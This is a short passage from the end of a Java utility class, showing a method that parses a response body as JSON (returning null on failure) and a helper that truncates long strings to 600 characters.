    try {
      return JSON.readTree(body);
    } catch (Exception e) {
      return null;
    }
  }

  private static String abbreviate(String body) {
    return body.length() > 600 ? body.substring(0, 600) + "..." : body;
  }
}
